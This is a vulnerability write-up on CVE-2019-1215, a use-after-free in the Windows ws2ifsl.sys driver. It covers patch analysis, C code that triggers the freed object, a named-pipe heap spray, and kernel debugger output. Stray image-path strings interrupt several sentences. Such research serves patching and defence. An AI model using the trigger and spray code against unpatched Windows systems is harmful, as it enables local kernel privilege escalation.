CVE-2019-1215 Analysis of a Use After Free in ws2ifsl

Root cause analysis and exploit for a Windows kernel ws2ifsl.sys use-after-free vulnerability.



The following blog post discusses a recently patched use after free vulnerability (CVE-2019-1215) in ws2ifsl.sys, which can be used for local privilege escalation. The bug was present in Windows 7, Windows 8, Windows 10, Windows 2008, Windows 2012 and Windows 2019. It was patched on 10 September 2019. More information about it can be found here.

This post describes the root cause analysis and the exploitation on Windows 10 19H1 (1903) x64. The exploit shows how to bypass kASLR, kCFG and SMEP on this system.

Background about ws2ifsl

For better understanding of this analysis, we have to introduce some background information about the vulnerable driver. There is no public documentation about this driver, and most of the following information is reverse engineered. The ws2ifsl component is a driver which is related to winsocket.

The driver implements two objects:

  • A process object
  • A socket object

The driver implements several dispatch routines, which can be called by the user. When NtCreateFile is called with the filename set to \\Device\\WS2IFSL\\, the function DispatchCreate is reached. The function branches based on the string in the _FILE_FULL_EA_INFORMATION.EaName. If it is NifsPvd, it will call CreateProcessFile, if it is NifsSct it will call CreateSocketFile.

The function CreateSocketFile and CreateProcessFile both create internal objects, which we call 'procData' and 'socketData'. After creation, these objects are saved in the _FILE_OBJECT.FsContext of the file object, which was created in the dispatchroutine.

The file object is the one which can be accessed in usermode with the handle returned from NtCreateFile. The handle can be used to perform calls to DeviceIoControl or WriteFile. This means, that the 'procData' and 'sockedData' objects are not directly reference counted with ObfReferenceObject and ObfDereferenceObject, but the underlying file object is.

The driver implements two Asynchronous Procedure Call (APC) objects, which are called 'request queue' and 'cancel queue'. An APC is a mechanism to asynchronous execute functions in another thread. Because multiple APCs can be forced to execute in another thread, the kernel implements a queue which stores all the APCs to be executed.

The 'procData' object contains these two APC objects, which are initialized by CreateProcessFile in InitializeRequestQueue and  InitializeCancelQueue. An APC object is initialized by KeInitializeApc, and receives a target thread and a function as arguments. Additionally, the processor mode (kernel or usermode) is set, as well as a rundown routine. In case of ws2ifsl, the rundown routines are RequestRundownRoutine and CancelRundownRoutine and the processor mode is set to usermode. Those rundown routine are used for cleanup and are called by the kernel if the thread diesbefore the APC has a chance to execute inside the thread. This could happen because an APC is only scheduled to be executed inside a thread if it is set into the alertable state. A thread could be set into the alertable state if, for example SleepEx is called with the second argument set to TRUE.

The driver also implements a read and a write dispatch routine in DispatchReadWrite, which is only accessible for the socket object, and calls DoSocketReadWrite. This function, among other things, is responsible for adding the APC elements into the APC queue by calling the function SignalRequest which uses the nt!KeInsertQueueApc API function.Communication with the driver

In many cases, a driver creates a symbolic link and its name can be used as a file name for CreateFileA, but this is not the case with ws2ifsl. It only calls nt!IoCreateDevicewith the DeviceName set to '\Device\WS2IFSL'. However, by calling the native API NtOpenFile it is possible to reach the create dispatch function ws2ifsl!DispatchCreate. The following code can be used to accomplish this:

HANDLE fileHandle = 0;
RtlInitUnicodeString(&deviceName, (PWSTR)L"\\Device\\WS2IFSL");
InitializeObjectAttributes(&object, &deviceName, 0, NULL, NULL);
NtOpenFile(&fileHandle, GENERIC_READ, &object, &IoStatusBlock, 0, 0);

The function DispatchCreate will check the extended attributes of the open call. This attribute can only be set with the NtCreateFile system call.

For the process object, the extended attribute (ea) data buffer must contain a thread handle belonging to the current process and after that we have ahandle to the device, which we can use to to do further operations.

Patch Analysis

Now that we have covered the background, we can switch to the patch analysis. The patch analysis starts by comparing the unpatched version of ws2ifsl 10.0.18362.1 versus the patched version 10.0.18362.356.

We can quickly see that onlya couple of functions have been patched:

  • CreateProcessFile
  • DispatchClose
  • SignalCancel
  • SignalRequest
  • RequestRundownRoutine
  • CancelRundownRoutine

This can be seen in the following screenshot:


The patched version contains also a new function:

  • DereferenceProcessContext

The most obvious change is that all changed functions contain a new call to the new function DereferenceProcessContext. This function can be seen in the following screenshot:


The next thing to notice is that the 'procData' object was extended by a new member and now uses a reference count. For example in CreateProcessFile, which is responsible for allinitializations, this new member is set to one.

procData->tag = 'corP';
*(_QWORD *)&procData->processId = PsGetCurrentProcessId();
procData->field_100 = 0;


procData->tag = 'corP';
*(_QWORD *)&procData->processId = PsGetCurrentProcessId();
procData->dword100 = 0;
procData->referenceCounter = 1i64; // new

The function DereferenceProcessContext is also checking the reference count and either calls nt!ExFreePoolWithTag on it or just returns.

The function DispatchClose, which is the close dispatch routine of the driver, is also patched. The new version changed the call from nt!ExFreePoolWithTag to DereferenceProcessContext. This means that sometimes (if the reference counter is not zero) the 'procData' is not freed, only decrementing its reference count by one.The fix in SignalRequest increments the referenceCounter before the call to nt!KeInsertQueueApc.

The bug is that the DispatchClose function can be used to free the 'procData' object, even if a request is already queued in an APC. The function DispatchClose is called, whenever the last reference to the file handle is closed (by calling CloseHandle). The patch fixes a use after free because the rundown routine, among others, could access the data which was already freed.

The fix makes sure, by using the new referenceCounter, that the buffer is only freed after the last reference of it is dropped. In case of the rundown routine (which holds a reference), at theend of the function, the reference is dropped with  DereferenceProcessContext

And the reference count is increased before calling nt!KeInsertQueueApc. In case of an error, that nt!KeInsertQueueApcwould fail, the reference is also dropped (avoiding a memory leak).Triggering the bug

To trigger the bug, all that is needed is to create a 'procData' handle, a 'socketData' handle, write some data to the 'socketData' and close both handles. The thread termination calls the APC rundown routine, which will work on the freed data. The following code would trigger the bug:

in CreateProcessHandle:

    g_hThread1 = CreateThread(0, 0, ThreadMain1, 0, 0, 0);
    eaData->a1 = (void*)g_hThread1; // thread must be in current process
    eaData->a2 = (void*)0x2222222;  // fake APC Routine
    eaData->a3 = (void*)0x3333333;  // fake cancel Rundown Routine
    eaData->a4 = (void*)0x4444444;
    eaData->a5 = (void*)0x5555555;
    NTSTATUS status = NtCreateFile(&fileHandle, MAXIMUM_ALLOWED, &object, &IoStatusBlock, NULL, FILE_ATTRIBUTE_NORMAL, 0, FILE_OPEN_IF, 0, eaBuffer, sizeof(FILE_FULL_EA_INFORMATION) + sizeof("NifsPvd") + sizeof(PROC_DATA));
    DWORD supSuc = SuspendThread(g_hThread1);
in main:

HANDLE procHandle = CreateProcessHandle();
HANDLE sockHandle = CreateSocketHandle(procHandle);

char* writeBuffer = (char*) malloc(0x100);
byteOffset.HighPart = 0;
byteOffset.LowPart = 0;byteOffset.QuadPart = 0;
byteOffset.u.LowPart = 0;
byteOffset.u.HighPart = 0;
ULONG key = 0;


NTSTATUS ret = NtWriteFile(sockHandle, 0, 0, 0, &io, writeBuffer, 0x100, &byteOffset, &key);

We can verify this behavior, when having a breakpoint at the free in DispatchClose and at the RequestRundownRoutine:

Breakpoint 2 hit
fffff806`1b8e71cd e8ceeef3fb      call    nt!ExFreePool (fffff806`178260a0)
1: kd> db rcx
ffffae0d`ceafbc70  50 72 6f 63 00 00 00 00-8c 07 00 00 00 00 00 00  Proc............
1: kd> g
Breakpoint 0 hit
fffff806`1b8e12d0 48895c2408      mov     qword ptr[rsp+8],rbx
0: kd> db rcx-30
ffffae0d`ceafbc70  50 72 6f 63 00 00 00 00-8c 07 00 00 00 00 00 00  Proc............

Because the 'procData' object is already freed, the rundown routine will work on freed data. In most cases, this willnot crash because the data block is not reallocated.

Heap Spray

After we now know how to trigger the bug, we can switch to the exploitation. The first step to do this is by reclaiming the freed allocation.

At first we need to know the size and the pool on which the buffer is allocated.

Using the pool command on the to be freed buffer, we can see that it is allocated on the Nonpaged pool and has the size of 0x120 bytes.

1: kd> !pool ffff8b08905e9910
Pool page ffff8b08905e9910 region is Nonpaged pool
*ffff8b08905e9900 size:  120 previous size:    0  (Allocated) *Ws2P Process: ffff8b08a32e3080
        Owningcomponent : Unknown (update pooltag.txt)

It can be verified by looking at the allocation of the buffer in ws2ifsl!CreateProcessFile:

PAGE:00000001C00079ED mov     edx, 108h       ; size
PAGE:00000001C00079F2 mov     ecx, 200h       ; PoolType
PAGE:00000001C00079F7 mov     r8d, 'P2sW'     ; Tag
PAGE:00000001C00079FD call    cs:__imp_ExAllocatePoolWithQuotaTag

A reliable way to perform controlled allocations of arbitrary size on the Nonpaged pool is to use named pipes: This technique was described by Alex Ionescu here. The following code can beused to allocate many 0x120 bytes buffer with user controlled data:

int doHeapSpray()
    for (size_t i = 0; i < 0x5000; i++)
        HANDLE readPipe;
        HANDLE writePipe;
        DWORD resultLength;
        UCHAR payload[0x120 - 0x48];
        RtlFillMemory(payload, 0x120 - 0x48, 0x24);

        BOOL res = CreatePipe(&readPipe, &writePipe, NULL, sizeof(payload));

        res = WriteFile(writePipe, payload, sizeof(payload), &resultLength, NULL);
    return 0;

If we merge this heap spray into the code which triggers the bug, we get a bug check inside nt!KiInsertQueueApc. The crash happens due to a security violation on a liked list operation..text:00000001400A58F6 mov     rax, [rdx]
.text:00000001400A58F9 cmp     [rax+_LIST_ENTRY.Blink], rdx
.text:00000001400A58FD jnz     fail_fast
.text:00000001401DC2EA fail_fast:                              ; CODE XREF: KiInsertQueueApc+53↑j
.text:00000001401DC2EA                                         ; KiInsertQueueApc+95↑j ...
.text:00000001401DC2EA                 mov     ecx, 3
.text:00000001401DC2EF                 int     29h             ; Win8: RtlFailFast(ecx)

The bugcheck happens right at the int 29 instruction. While inspecting the registers at the time of the crash, we can see that the RAX register points into ourcontrolled user data.

rax=ffff8b08905e82d0 rbx=0000000000000000 rcx=0000000000000003
rdx=ffff8b08a39c3128 rsi=0000000000000000 rdi=0000000000000000
rip=fffff8057489a2ef rsp=ffffde8268bfd4c8 rbp=ffffde8268bfd599
 r8=ffff8b08a39c3118  r9=fffff80574d87490 r10=fffff80574d87490
r11=0000000000000000 r12=0000000000000000 r13=0000000000000000
r14=0000000000000000r15=0000000000000000

0: kd> dq ffff8b08905e82d0
ffff8b08`905e82d0  24242424`2424242424242424`24242424
ffff8b08`905e82e0  24242424`24242424 24242424`24242424
ffff8b08`905e82f0  24242424`24242424 24242424`24242424
ffff8b08`905e8300  24242424`24242424 24242424`24242424
ffff8b08`905e8310  24242424`24242424 24242424`24242424
ffff8b08`905e8320  24242424`24242424 24242424`24242424ffff8b08`905e8330  24242424`24242424 24242424`24242424
ffff8b08`905e8340  24242424`24242424 24242424`24242424

The call stack leading to the crash is the following:

0: kd> k
 # Child-SP          RetAddr           Call Site
00 ffffb780`3ac7e868 fffff804`334a90c2 nt!DbgBreakPointWithStatus
01 ffffb780`3ac7e870 fffff804`334a87b2 nt!KiBugCheckDebugBreak+0x12
02 ffffb780`3ac7e8d0 fffff804`333c0dc7 nt!KeBugCheck2+0x952
03 ffffb780`3ac7efd0 fffff804`333d2ae9 nt!KeBugCheckEx+0x107
04 ffffb780`3ac7f010 fffff804`333d2f10 nt!KiBugCheckDispatch+0x69
05 ffffb780`3ac7f150 fffff804`333d12a5 nt!KiFastFailDispatch+0xd0
06 ffffb780`3ac7f330 fffff804`333dd2ef nt!KiRaiseSecurityCheckFailure+0x325
